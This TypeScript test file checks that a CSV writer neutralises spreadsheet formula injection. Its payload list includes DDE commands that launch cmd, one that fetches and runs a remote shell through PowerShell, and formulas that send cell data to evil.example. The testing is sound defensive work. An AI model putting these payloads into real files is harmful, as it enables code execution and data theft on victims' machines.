import { describe, expect, test } from 'vitest';
import { csvLine, csvStart } from './csv.ts';

/** An independent parser of RFC 4180. */
function parse(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let at = 0;
  while (at < text.length) {
    let cell = '';
    if (text[at] === '"') {
      for (at++; text[at] !== '"' || text[at + 1] === '"'; at++) {
        if (at >= text.length) throw new Error('a quoted cell without an end');
        if (text[at] === '"') at++;
        cell += text[at];
      }
      at++;
    } else {
      while (at < text.length && !',\r\n'.includes(text[at] ?? '')) {
        if (text[at] === '"') throw new Error('a quote inside a bare cell');
        cell += text[at++];
      }
    }
    record.push(cell);
    if (text[at] === ',') at++;
    else if (text.startsWith('\r\n', at)) {
      records.push(record);
      record = [];
      at += 2;
    } else throw new Error(`neither a separator nor the end of a line at ${at}`);
  }
  return records;
}

// Payloads of OWASP and PayloadsAllTheThings, and characters that may precede a formula.
const payloads = [
  `=1+1`,
  `+1+1`,
  `-1+1`,
  `@SUM(1+1)`,
  `=cmd|'/C calc'!A0`,
  `=HYPERLINK("https://evil.example?x="&A1,"Click")`,
  `DDE ("cmd";"/C calc";"!A0")A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `=2+5+cmd|' /C calc'!A0`,
  `=cmd|' /C notepad'!'A1'`,
  `=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0`,
  `=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1`,
  `=IMPORTXML(CONCAT("https://evil.example?v=", CONCATENATE(A2:E2)), "//a/a10")`,
  `=WEBSERVICE("https://evil.example")`,
  `=AAAA+BBBB-CCCC&"Hello"/12345&cmd|'/c calc.exe'!A`,
  `=rundll32|'URL.dll,OpenURL calc.exe'!A`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  `\0=1+1`,
  ` =1+1`,
  `\u00a0=1+1`,
  `\u200b=1+1`,
  `\ufeff=1+1`,
  `＝1+1`,
  `＋1`,
  `－1`,
  `＠SUM(1)`,
  `-5`,
  `"=1+1`,
  `","=1+1`,
  `a\r\n=1+1`,
];
const harmless = [
  '',
  'Ana',
  'Zoë «été»',
  'a,b',
  'a;b',
  'say "hi"',
  'two\r\nlines',
  "O'Neill",
  'a=b',
  '1-2',
  '🙂',
  ' ends ',
];

describe('CSV records (S51)', () => {
  test.each(payloads)('%j is written as complete text, not as a formula', (payload) => {
    const [[before, cell, after] = [], ...more] = parse(csvLine(['x', payload, 'y']));
    expect([before, after, more]).toEqual(['x', 'y', []]);
    expect(cell).not.toMatch(/^[\s\0\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r\n\0]/u);
    expect([payload, `'${payload}`]).toContain(cell);
  });

  test.each(harmless)('%j is read back unchanged', (text) => {
    expect(parse(csvLine([text, text]))).toEqual([[text, text]]);
  });

  test('cells stay separate when semicolons or tabs are separators', () => {
    const line = csvLine(['a;=1+1', 'b\t=1+1']);
    expect(line).toBe('"a;=1+1","b\t=1+1"\r\n');
  });

  test('numbers stay numbers, even negative ones; instants are ISO 8601; null is empty', () => {
    const line = csvLine([-5, 1.5, 0, 10n, true, new Date(0), null]);
    expect(line).toBe('-5,1.5,0,10,true,1970-01-01T00:00:00.000Z,\r\n');
  });

  test('a file of many lines is read back line by line', () => {
    const lines = [...payloads, ...harmless].map((text, at) => csvLine([at, text]));
    const read = parse(lines.join(''));
    expect(read.map(([at]) => at)).toEqual(lines.map((_, at) => String(at)));
    expect(csvStart).toBe('\uFEFF');
  });
});
